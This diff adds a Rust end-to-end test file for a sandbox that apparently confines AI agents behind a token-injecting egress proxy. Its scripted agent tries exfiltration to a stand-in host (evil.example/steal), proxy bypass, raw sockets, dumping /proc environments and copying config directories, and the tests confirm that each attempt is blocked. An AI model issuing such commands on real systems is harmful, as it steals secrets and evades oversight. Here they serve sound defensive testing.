@@ -1,0 +1,290 @@
+//! End-to-end tests of `bottle run` on the native backend: a real sandbox, a real
+//! sidecar, and a fake API host on loopback with its own test CA.
+
+mod support;
+
+use std::fs;
+use std::net::TcpStream;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use support::{
+    API_HOST, FakeApi, HostUser, KillOnDrop, REAL_TOKEN, Sandbox, TOKEN_VAR, bottle_command, pids_with_arg,
+    run,
+};
+
+/// The scripted agent: each step writes its result under /workspace/out for the test
+/// to read, so the script itself never needs the real token.
+const AGENT_SCRIPT: &str = r#"
+set -u
+out=/workspace/out
+mkdir -p "$out/private"
+curl -sS --max-time 20 -H 'Authorization: Bearer placeholder-from-agent' \
+    "https://__API__/v1/echo?q=1" > "$out/api.body" 2> "$out/api.err"
+echo $? > "$out/api.rc"
+curl -sS --max-time 20 -D "$out/evil.headers" https://evil.example/steal \
+    > "$out/evil.body" 2> "$out/evil.err"
+echo $? > "$out/evil.rc"
+curl -sS --max-time 20 http://evil.example/steal > "$out/evil-http.body" 2> "$out/evil-http.err"
+curl -sS --max-time 5 --noproxy '*' -k "https://__ADDR__/" > /dev/null 2> "$out/direct.err"
+echo $? > "$out/direct.rc"
+python3 -c 'import socket,sys; socket.create_connection(("__IP__", __PORT__), timeout=5)' \
+    2> "$out/raw.err"
+echo $? > "$out/raw.rc"
+ls /proc | grep -c '^[0-9]' > "$out/pids"
+ls -A /root > "$out/root.ls" 2>&1
+echo $? > "$out/root.rc"
+ls -A /home > "$out/home.ls"
+test -e "__CONFIG__"
+echo $? > "$out/config.rc"
+cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > "$out/proc.dump" 2> /dev/null
+env > "$out/env"
+cp -r /home/agent /tmp /etc/bottle "$out/private/" 2> /dev/null
+id -u > "$out/uid"
+exit 7
+"#;
+
+fn agent_script(api: &FakeApi, sandbox: &Sandbox) -> String {
+    let addr = api.server.https_addr();
+    AGENT_SCRIPT
+        .replace("__API__", API_HOST)
+        .replace("__ADDR__", &addr.to_string())
+        .replace("__IP__", &addr.ip().to_string())
+        .replace("__PORT__", &addr.port().to_string())
+        .replace("__CONFIG__", &sandbox.config().display().to_string())
+}
+
+fn read(out: &Path, name: &str) -> String {
+    fs::read_to_string(out.join(name)).unwrap_or_else(|err| panic!("read out/{name}: {err}"))
+}
+
+/// Returns every file under `dir` whose contents include `needle`.
+fn files_containing(dir: &Path, needle: &[u8]) -> Vec<String> {
+    let mut found = Vec::new();
+    let Ok(entries) = fs::read_dir(dir) else { return found };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        let Ok(kind) = entry.file_type() else { continue };
+        if kind.is_dir() {
+            found.extend(files_containing(&path, needle));
+        } else if kind.is_file() {
+            let contents = fs::read(&path).unwrap_or_default();
+            if contents.windows(needle.len()).any(|window| window == needle) {
+                found.push(path.display().to_string());
+            }
+        }
+    }
+    found
+}
+
+fn scenario(user: HostUser) {
+    let api = FakeApi::start();
+    let sandbox = Sandbox::new();
+    sandbox.write_api_bottle(&api);
+    let script = agent_script(&api, &sandbox);
+    match user {
+        HostUser::Root => {
+            // The agent runs as an unprivileged host uid, so the workspace must be
+            // writable by others when root launches.
+            use std::os::unix::fs::PermissionsExt;
+            fs::set_permissions(sandbox.workspace(), fs::Permissions::from_mode(0o777))
+                .expect("chmod workspace");
+        }
+        HostUser::Rootless => sandbox.chown_to(support::ROOTLESS_USER),
+    }
+
+    let workspace = sandbox.workspace().display().to_string();
+    let output = run(bottle_command(
+        &sandbox,
+        user,
+        &["run", "scripted", "--label", "e2e", "--workspace", &workspace, "--", "sh", "-c", &script],
+    )
+    .env(TOKEN_VAR, REAL_TOKEN));
+
+    assert_eq!(output.status.code(), Some(7), "the agent's exit code passes through");
+    let out = sandbox.workspace().join("out");
+
+    // 1. The API host receives the real token; the agent's own header is dropped.
+    assert_eq!(read(&out, "api.rc").trim(), "0", "curl to the API: {}", read(&out, "api.err"));
+    let requests = api.server.requests();
+    let to_api: Vec<_> = requests.iter().filter(|r| r.path.starts_with("/v1/echo")).collect();
+    assert_eq!(to_api.len(), 1, "the API host received one request: {requests:?}");
+    assert_eq!(to_api[0].header_values("authorization"), [format!("Bearer {REAL_TOKEN}")]);
+    assert!(!to_api[0].contains("placeholder-from-agent"));
+
+    // 2. A host with no route gets the proxy's 403, and the audit log says why.
+    let evil_headers = read(&out, "evil.headers").to_ascii_lowercase();
+    assert!(evil_headers.starts_with("http/1.1 403"), "{evil_headers}");
+    assert!(evil_headers.contains("x-bottle-decision: deny"), "{evil_headers}");
+    let evil_body = read(&out, "evil-http.body");
+    assert!(evil_body.starts_with("bottle: "), "plain HTTP to evil.example: {evil_body}");
+    let audit = fs::read_to_string(sandbox.config().join("logs/e2e/egress.jsonl"))
+        .expect("read the audit log");
+    let evil_line = audit
+        .lines()
+        .find(|line| line.contains("evil.example"))
+        .expect("an audit line for evil.example");
+    assert!(evil_line.contains("\"deny\""), "{evil_line}");
+    assert!(audit.contains(API_HOST));
+    assert!(!audit.contains(REAL_TOKEN), "the audit log holds the token");
+
+    // 3. Without the proxy nothing leaves, while the same address works from outside.
+    assert_ne!(read(&out, "direct.rc").trim(), "0", "curl bypassing the proxy succeeded");
+    assert_ne!(read(&out, "raw.rc").trim(), "0", "a raw socket to the API host succeeded");
+    TcpStream::connect_timeout(&api.server.https_addr(), Duration::from_secs(5))
+        .expect("positive control: the API host is reachable from outside the bottle");
+
+    // 4. No host processes, no host home, no config directory.
+    let pids: u32 = read(&out, "pids").trim().parse().expect("pid count");
+    assert!(pids < 10, "the bottle sees {pids} processes");
+    assert_ne!(read(&out, "root.rc").trim(), "0", "/root is listable: {}", read(&out, "root.ls"));
+    assert_eq!(read(&out, "home.ls").trim(), "agent");
+    assert_ne!(read(&out, "config.rc").trim(), "0", "the config directory is visible");
+    assert_eq!(read(&out, "uid").trim(), "1000");
+
+    // The real token is nowhere the agent can read: environment, argv, private files.
+    let leaked = files_containing(&out, REAL_TOKEN.as_bytes());
+    assert!(leaked.is_empty(), "the real token is inside the bottle: {leaked:?}");
+    assert!(read(&out, "env").contains("HTTPS_PROXY=http://127.0.0.1:3128"));
+    assert!(fs::metadata(out.join("proc.dump")).expect("proc dump").len() > 0);
+
+    // A clean run leaves no state behind; its logs stay.
+    assert!(!sandbox.config().join("state/e2e").exists(), "state left behind");
+}
+
+#[test]
+fn scenario_as_root() {
+    scenario(HostUser::Root);
+}
+
+#[test]
+fn scenario_rootless() {
+    scenario(HostUser::Rootless);
+}
+
+/// Waits until `check` holds, polling with a growing interval, and fails with `what`.
+fn wait_for(what: &str, timeout: Duration, mut check: impl FnMut() -> bool) {
+    let deadline = Instant::now() + timeout;
+    let mut interval = Duration::from_millis(10);
+    while !check() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(interval);
+        interval = (interval * 2).min(Duration::from_millis(500));
+    }
+}
+
+#[test]
+fn killing_sidecar_stops_bottle() {
+    let sandbox = Sandbox::new();
+    let marker = "6001";
+    let mut child = KillOnDrop(
+        bottle_command(
+            &sandbox,
+            HostUser::Root,
+            &["run", "--label", "kill-sidecar", "--", "sleep", marker],
+        )
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("start bottle"),
+    );
+
+    wait_for("the agent to start", Duration::from_secs(30), || !pids_with_arg(marker).is_empty());
+    let launcher = child.0.id();
+    let find_sidecar = || {
+        fs::read_to_string(format!("/proc/{launcher}/task/{launcher}/children"))
+            .unwrap_or_default()
+            .split_whitespace()
+            .find(|pid| {
+                fs::read(format!("/proc/{pid}/cmdline"))
+                    .is_ok_and(|cmdline| cmdline.split(|b| *b == 0).any(|arg| arg == b"__sidecar"))
+            })
+            .map(str::to_owned)
+    };
+    wait_for("the sidecar to start", Duration::from_secs(30), || find_sidecar().is_some());
+    let sidecar = find_sidecar().expect("a sidecar child");
+    let killed = Command::new("kill").args(["-KILL", &sidecar]).status().expect("kill");
+    assert!(killed.success());
+
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let status = loop {
+        if let Some(status) = child.0.try_wait().expect("wait") {
+            break status;
+        }
+        assert!(Instant::now() < deadline, "the bottle kept running without its sidecar");
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    assert_eq!(status.code(), Some(125));
+    assert!(pids_with_arg(marker).is_empty(), "the agent outlived its sidecar");
+}
+
+#[test]
+fn failed_launch_leaves_nothing() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "config/bottles/broken.md",
+        "---\negress:\n  routes:\n    - host: api.allowed.example\n      upstream_ca: /nonexistent/ca.pem\n---\n",
+    );
+    sandbox.write("config/agents/broken.md", "---\nbottle: broken\n---\n");
+    let output = run(&mut bottle_command(
+        &sandbox,
+        HostUser::Root,
+        &["run", "broken", "--label", "half", "--", "sleep", "6002"],
+    ));
+
+    assert_eq!(output.status.code(), Some(125));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("/nonexistent/ca.pem"), "{stderr}");
+    let state = sandbox.config().join("state/half");
+    assert!(!state.exists(), "state left behind: {}", state.display());
+    assert!(pids_with_arg("6002").is_empty(), "a process of the failed launch is alive");
+}
+
+#[test]
+fn missing_token_stops_launch() {
+    let api = FakeApi::start();
+    let sandbox = Sandbox::new();
+    sandbox.write_api_bottle(&api);
+    let output = run(&mut bottle_command(&sandbox, HostUser::Root, &["run", "scripted", "--", "true"]));
+
+    assert_eq!(output.status.code(), Some(125));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains(&format!("injects token {TOKEN_VAR}, which has no value")), "{stderr}");
+}
+
+#[test]
+fn exit_codes_follow_command() {
+    let sandbox = Sandbox::new();
+    for (args, expected) in [
+        (&["run", "--", "sh", "-c", "exit 3"][..], 3),
+        (&["run", "--", "/nonexistent-command"][..], 127),
+        (&["run", "--", "/etc/hostname"][..], 126),
+    ] {
+        let output = run(&mut bottle_command(&sandbox, HostUser::Root, args));
+        assert_eq!(output.status.code(), Some(expected), "{args:?}");
+    }
+}
+
+#[test]
+fn two_bottles_do_not_see_each_other() {
+    let sandbox = Sandbox::new();
+    let first = KillOnDrop(
+        bottle_command(&sandbox, HostUser::Root, &["run", "--label", "first", "--", "sleep", "6003"])
+            .stdin(Stdio::null())
+            .spawn()
+            .expect("start first bottle"),
+    );
+    wait_for("the first bottle", Duration::from_secs(30), || !pids_with_arg("6003").is_empty());
+
+    let output = run(&mut bottle_command(
+        &sandbox,
+        HostUser::Root,
+        &["run", "--label", "second", "--", "sh", "-c", "hostname; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"],
+    ));
+    drop(first);
+
+    assert_eq!(output.status.code(), Some(0));
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.starts_with("second\n"), "{stdout}");
+    assert!(!stdout.contains("6003"), "the second bottle sees the first: {stdout}");
+}
